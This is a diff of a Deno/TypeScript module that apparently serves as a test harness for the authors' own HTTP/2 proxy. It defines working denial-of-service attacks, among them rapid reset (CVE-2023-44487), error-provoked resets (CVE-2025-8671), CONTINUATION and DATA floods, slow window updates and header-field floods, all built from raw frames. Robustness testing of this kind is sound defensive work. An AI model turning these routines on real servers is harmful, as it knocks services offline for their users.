@@ -4,77 +4,38 @@
  *
  * @module
  */
-import { once } from "node:events";
-import { connect, type TLSSocket } from "node:tls";
-import { fileURLToPath } from "node:url";
-import { CLIENT_PREFACE, FrameFlag, FrameType, HpackEncoder } from "../../lib/h2/mod.ts";
-import { frame, setting, u32 } from "./h2_raw.ts";
-import { HANDSHAKE_ATTACKS } from "./handshake_attacks.ts";
-import { encodeBlock } from "./hpack.ts";
-import { ROOT } from "./module_graph.ts";
+import type { TLSSocket } from "node:tls";
+import { CLIENT_PREFACE, FrameFlag, FrameType, HpackEncoder } from "../../../lib/h2/mod.ts";
+import { frame, setting, u32 } from "../h2_raw.ts";
+import { encodeBlock } from "../hpack.ts";
+import {
+  type Attack,
+  type AttackTarget,
+  type Clock,
+  dialSecure,
+  hoard,
+  pause,
+  repeatOver,
+  Wire,
+} from "./attack.ts";
 
-/** Where an attack goes. */
-export interface AttackTarget {
-  readonly port: number;
-  readonly host: string;
-}
-
-/** The time an attack has, and what it has done. */
-export interface Clock {
-  /** It is over. */
-  stopped: boolean;
-  /** How often the attack was done. */
-  done: number;
-}
-
-/** Does the attack until the clock has stopped. */
-export type Attack = (target: AttackTarget, clock: Clock) => Promise<void>;
-
-/** One connection of an attacker: no library, no flow control, no shame. */
-class Attacker implements AsyncDisposable {
-  readonly socket: TLSSocket;
+/** A connection of HTTP/2. */
+class Attacker extends Wire {
   readonly host: string;
   readonly #encoder = new HpackEncoder();
   nextId = 1;
-  #wake: () => void = () => {};
 
   private constructor(socket: TLSSocket, host: string) {
-    this.socket = socket;
+    super(socket);
     this.host = host;
-    for (const event of ["drain", "close", "end"]) socket.on(event, () => this.#wake());
   }
 
   /** Connects and greets, with these settings. */
   static async open(target: AttackTarget, settings: readonly number[] = []): Promise<Attacker> {
-    const { port, host } = target;
-    const socket = connect({
-      port,
-      host: "127.0.0.1",
-      servername: host,
-      rejectUnauthorized: false,
-      ALPNProtocols: ["h2"],
-    });
-    socket.on("error", () => {});
-    // A connection that is refused or cut off is an attacker's lot.
-    await Promise.race([once(socket, "secureConnect"), once(socket, "close")]).catch(() => {});
-    socket.resume();
-    const attacker = new Attacker(socket, host);
+    const attacker = new Attacker(await dialSecure(target, "h2"), target.host);
     await attacker.send(CLIENT_PREFACE, frame(FrameType.settings, 0, 0, settings));
     await attacker.send(frame(FrameType.settings, FrameFlag.ack, 0));
     return attacker;
-  }
-
-  get gone(): boolean {
-    return this.socket.destroyed || this.socket.readableEnded || !this.socket.writable;
-  }
-
-  /** Writes, and waits while the proxy does not read. */
-  async send(...chunks: Uint8Array[]): Promise<void> {
-    if (this.gone) return;
-    if (this.socket.write(Buffer.concat(chunks))) return void await turn();
-    const { promise, resolve } = Promise.withResolvers<void>();
-    this.#wake = resolve;
-    await promise;
   }
 
   /** A request on the next stream. */
@@ -97,23 +58,19 @@ class Attacker implements AsyncDisposable {
     return frame(FrameType.headers, flags, id, encodeBlock(this.#encoder, [...pseudo, ...more]));
   }
 
-  [Symbol.asyncDispose](): Promise<void> {
-    this.socket.destroy();
-    return Promise.resolve();
+  /** A WebSocket on the next stream (RFC 8441). */
+  tunnel(): Uint8Array {
+    const id = this.nextId;
+    this.nextId += 2;
+    const list = [":method", "CONNECT", ":protocol", "websocket", ":scheme", "https"];
+    const block = encodeBlock(this.#encoder, [...list, ":authority", this.host, ":path", "/"]);
+    return frame(FrameType.headers, FrameFlag.endHeaders, id, block);
   }
 }
 
-/** Repeats `once` on a connection that is opened anew whenever the proxy has closed it. */
+/** Repeats `once` on one connection after the other. */
 function repeat(once: (attacker: Attacker, clock: Clock) => Promise<number>): Attack {
-  return async (target, clock) => {
-    while (!clock.stopped) {
-      await using attacker = await Attacker.open(target);
-      if (attacker.gone) await pause(10);
-      while (!clock.stopped && !attacker.gone) {
-        clock.done += await once(attacker, clock);
-      }
-    }
-  };
+  return repeatOver((target) => Attacker.open(target), once);
 }
 
 function resets(code: number, path: string): Attack {
@@ -129,8 +86,7 @@ function resets(code: number, path: string): Attack {
 }
 
 /** Each by its name. */
-export const ATTACKS: Readonly<Record<string, Attack>> = {
-  ...HANDSHAKE_ATTACKS,
+export const HTTP2_ATTACKS: Readonly<Record<string, Attack>> = {
   "rapid reset (CVE-2023-44487)": resets(8, "/slow"),
   "rapid reset with NO_ERROR": resets(0, "/slow"),
   /** A request that is answered by the proxy itself, for each one that a backend works on. */
@@ -225,77 +181,85 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
     for (let i = 0; i < 40; i++) await attacker.send(more);
     return 1;
   }),
-};
-
-/** An attack that runs in another process. */
-export interface RunningAttack extends AsyncDisposable {
-  /** Ends it; how often the attack was done. */
-  stop(): Promise<number>;
-}
-
-/** Starts an attack in a process of its own and waits until it was done once. */
-export async function startAttack(name: string, target: AttackTarget): Promise<RunningAttack> {
-  // An attacker has a machine of its own: what this one has goes to the proxy and to its clients.
-  const child = new Deno.Command("nice", {
-    args: [
-      ...["-n", "19", Deno.execPath()],
-      ...["run", "--no-check", "--no-prompt", "-A", "--config", `${ROOT}/deno.json`],
-      ...[fileURLToPath(import.meta.url), name, String(target.port), target.host],
-    ],
-    stdin: "piped",
-    stdout: "piped",
-    stderr: "inherit",
-  }).spawn();
-  const reader = child.stdout.pipeThrough(new TextDecoderStream()).getReader();
-  let output = "";
-  const readUntil = async (wanted: RegExp): Promise<RegExpExecArray> => {
-    for (;;) {
-      const found = wanted.exec(output);
-      if (found !== null) return found;
-      const { value, done } = await reader.read();
-      if (done) throw new Error(`attack "${name}" ended early: ${output}`);
-      output += value;
+  "empty CONTINUATION frames": repeat(async (attacker) => {
+    await attacker.send(frame(FrameType.headers, FrameFlag.endStream, attacker.nextId, [0x82]));
+    const empty = frame(FrameType.continuation, 0, attacker.nextId);
+    for (let i = 0; i < 10; i++) await attacker.send(...Array.from({ length: 100 }, () => empty));
+    return 1;
+  }),
+  "empty DATA frames": repeat(async (attacker) => {
+    await attacker.send(attacker.request("/", false));
+    const empty = frame(FrameType.data, 0, attacker.nextId - 2);
+    await attacker.send(...Array.from({ length: 1000 }, () => empty));
+    return 1000;
+  }),
+  /** The proxy resets, as the rules want it, what the backend works on. */
+  "resets that errors provoke (CVE-2025-8671)": repeat(async (attacker) => {
+    const frames: Uint8Array[] = [];
+    for (let i = 0; i < 50; i++) {
+      frames.push(attacker.request("/slow"));
+      frames.push(frame(FrameType.windowUpdate, 0, attacker.nextId - 2, u32(0)));
     }
-  };
-  await readUntil(/started/);
-  let stopped = false;
-  return {
-    async stop() {
-      stopped = true;
-      await child.stdin.close();
-      const [, done] = await readUntil(/done (\d+)/);
-      await reader.cancel();
-      await child.status;
-      return Number(done);
-    },
-    async [Symbol.asyncDispose]() {
-      if (stopped) return;
-      child.kill("SIGKILL");
-      await Promise.allSettled([child.stdin.close(), reader.cancel(), child.status]);
-    },
-  };
-}
-
-function turn(): Promise<void> {
-  return new Promise((resolve) => setImmediate(resolve));
-}
-
-function pause(ms: number): Promise<void> {
-  return new Promise((resolve) => setTimeout(resolve, ms));
-}
-
-if (import.meta.main) {
-  const [name = "", port = "", host = ""] = Deno.args;
-  const attack = ATTACKS[name];
-  if (attack === undefined) throw new Error(`no attack "${name}"`);
-  const clock = { stopped: false, done: 0 };
-  const ended = attack({ port: Number(port), host }, clock);
-  while (clock.done === 0) await pause(5);
-  await Deno.stdout.write(new TextEncoder().encode("started\n"));
-  for await (const _ of Deno.stdin.readable);
-  clock.stopped = true;
-  // One that is not read any more does not end by itself.
-  await Promise.race([ended, pause(500)]);
-  await Deno.stdout.write(new TextEncoder().encode(`done ${clock.done}\n`));
-  Deno.exit(0);
-}
+    await attacker.send(...frames);
+    return 50;
+  }),
+  "answers that nobody reads": repeat(async (attacker, clock) => {
+    attacker.socket.pause();
+    const ping = frame(FrameType.ping, 0, 0, new Uint8Array(8));
+    clock.done++;
+    const sending = (async () => {
+      while (!clock.stopped && !attacker.gone) await attacker.send(attacker.request("/"), ping);
+    })();
+    while (!clock.stopped && !attacker.gone) await pause(20);
+    attacker.socket.destroy();
+    await sending;
+    return 0;
+  }),
+  /** Windows that are opened, as drops of water. */
+  "downloads taken by the octet": async (target, clock) => {
+    const attackers = await Promise.all(
+      Array.from({ length: 4 }, () => Attacker.open(target, [...setting(4, 0)])),
+    );
+    for (const attacker of attackers) {
+      await attacker.send(...Array.from({ length: 90 }, () => attacker.request("/large")));
+    }
+    while (!clock.stopped) {
+      for (const attacker of attackers) {
+        const drops = Array.from(
+          { length: 90 },
+          (_, i) => frame(FrameType.windowUpdate, 0, 2 * i + 1, u32(1)),
+        );
+        await attacker.send(...drops);
+        clock.done += drops.length;
+      }
+      await pause(100);
+    }
+    for (const attacker of attackers) await attacker[Symbol.asyncDispose]();
+  },
+  "prefaces that do not come": hoard(100, async (target, clock) => {
+    if (clock.done > 100) await pause(20);
+    const socket = await dialSecure(target, "h2");
+    return socket.destroyed ? undefined : socket;
+  }),
+  "frames that break a rule": repeat(async (attacker) => {
+    await attacker.send(frame(FrameType.data, 0, 0, [1, 2, 3]));
+    while (!attacker.gone) await pause(1);
+    return 1;
+  }),
+  "tunnels without end": repeat(async (attacker) => {
+    const tunnels = Array.from({ length: 50 }, () => attacker.tunnel());
+    await attacker.send(...tunnels);
+    return 50;
+  }),
+  /** As many fields as there may be, each as short as can be. */
+  "requests of four thousand fields": repeat(async (attacker) => {
+    const id = attacker.nextId;
+    attacker.nextId += 2;
+    const first = attacker.request("/");
+    const flags = FrameFlag.endHeaders | FrameFlag.endStream;
+    const fields = new Uint8Array(16_000).fill(0x80 | 32);
+    await attacker.send(first, frame(FrameType.headers, flags, id + 4, fields));
+    attacker.nextId += 2;
+    return 1;
+  }),
+};
